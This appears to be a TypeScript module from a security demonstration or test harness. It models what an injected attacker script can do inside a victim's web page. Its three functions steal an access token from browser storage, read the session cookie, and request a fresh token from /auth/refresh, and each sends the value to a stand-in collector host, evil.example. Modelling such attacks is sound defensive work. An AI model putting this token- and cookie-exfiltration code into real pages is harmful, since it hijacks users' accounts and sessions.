// The attacker's script, once it runs in the victim's page: it can do there whatever the page's own script can.
import type { EvilEnv } from './env'

const collector = 'https://evil.example/c?t='

/** Takes a token that lies in the page's storage. */
export async function stealToken(page: EvilEnv) {
  const { localStorage, sessionStorage, sendOut } = page
  const key = 'access_token'
  const token = localStorage.getItem(key) ?? sessionStorage.getItem(key)
  if (token) await sendOut(collector + token)
}

/** Takes the session cookie, if script may read it. */
export async function stealCookie({ document, sendOut }: EvilEnv) {
  const sid = /__Host-sid=([^;]+)/.exec(document.cookie)?.[1]
  if (sid) await sendOut(collector + sid)
}

/** Nothing lies around, so it asks for a fresh token, as the page would. */
export async function askForToken({ fetch, sendOut }: EvilEnv) {
  const response = await fetch('/auth/refresh', { method: 'POST' })
  if (response.status !== 200) return
  await sendOut(collector + JSON.parse(response.body).access_token)
}
